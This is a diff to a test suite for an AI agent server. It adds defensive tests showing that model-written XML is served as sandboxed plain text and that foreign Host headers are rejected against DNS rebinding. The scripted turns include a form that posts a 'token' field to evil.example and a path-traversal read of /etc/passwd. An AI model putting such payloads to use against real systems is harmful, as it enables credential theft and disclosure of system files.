@@ -4,6 +4,7 @@
  */
 import { existsSync } from "node:fs";
 import { readFile } from "node:fs/promises";
+import { request as httpRequest } from "node:http";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { readSse } from "./support/sse.js";
@@ -27,6 +28,10 @@ function respond(request: ChatRequestBody): ScriptedTurn {
   if (said.startsWith("quote")) return { toolCalls: [{ name: "read_file", arguments: { file_path: "{bundle-root}/config.yaml" } }] };
   if (said.startsWith("save")) {
     return { toolCalls: [{ name: "save_output", arguments: { file_path: "{session-folder}/x.md", content: "# Saved by the model\n" } }] };
+  }
+  if (said.startsWith("xml")) {
+    const page = '<html xmlns="http://www.w3.org/1999/xhtml"><body><form action="https://evil.example"><input name="token"/></form></body></html>';
+    return { toolCalls: [{ name: "save_output", arguments: { file_path: "{session-folder}/page.xml", content: page } }] };
   }
   if (said.startsWith("escape")) return { toolCalls: [{ name: "read_file", arguments: { file_path: "{bundle-root}/../../etc/passwd" } }] };
   return { text: `Hello! You said: ${said}` };
@@ -141,6 +146,39 @@ describe("the walking skeleton", () => {
     const route = await fetch(`${system.url}/api/nothing-here`);
     expect(route.status).toBe(404);
     expect(await route.json()).toMatchObject({ success: false, error: { code: "NOT_FOUND" } });
+  });
+
+  it("serves a model-written .xml file as plain text under a sandbox CSP, never as a live XHTML page", async () => {
+    const answer = (await (await chat({ agent_id: "idea-coach", message: "xml please" })).json()) as { session_id: string };
+    const response = await fetch(`${system.url}/api/sessions/${answer.session_id}/files/page.xml`);
+    expect(response.status).toBe(200);
+    expect(response.headers.get("content-type")).toBe("text/plain; charset=utf-8");
+    expect(response.headers.get("x-content-type-options")).toBe("nosniff");
+    expect(response.headers.get("content-security-policy")).toContain("sandbox");
+    expect(response.headers.get("content-security-policy")).toContain("form-action 'none'");
+    expect((await fetch(`${system.url}/`)).headers.get("content-security-policy")).toContain("form-action 'none'");
+  });
+
+  it("refuses a foreign Host without AUTH_TOKENS on every route and on the WebSocket upgrade (DNS rebinding)", async () => {
+    const { port } = new URL(system.url);
+    const status = (path: string, host: string, headers: Record<string, string> = {}) =>
+      new Promise<number>((resolve, reject) => {
+        const request = httpRequest({ host: "127.0.0.1", port, path, headers: { host, ...headers } }, (response) => {
+          response.resume();
+          resolve(response.statusCode ?? 0);
+        });
+        request.on("upgrade", (response, socket) => {
+          socket.destroy();
+          resolve(response.statusCode ?? 101);
+        });
+        request.on("error", reject);
+        request.end();
+      });
+    const upgrade = { connection: "Upgrade", upgrade: "websocket", "sec-websocket-version": "13", "sec-websocket-key": "dGhlIHNhbXBsZSBub25jZQ==" };
+    for (const path of ["/healthz", "/api/agents", "/", "/v1/models", "/api/sessions"]) expect(await status(path, `evil.example:${port}`)).toBe(403);
+    expect(await status("/ws", `evil.example:${port}`, { ...upgrade, origin: `http://evil.example:${port}` })).toBe(403);
+    expect(await status("/api/agents", `localhost:${port}`)).toBe(200);
+    expect(await status("/ws", `127.0.0.1:${port}`, upgrade)).toBe(101);
   });
 
   it("stops every service cleanly on SIGTERM", async () => {
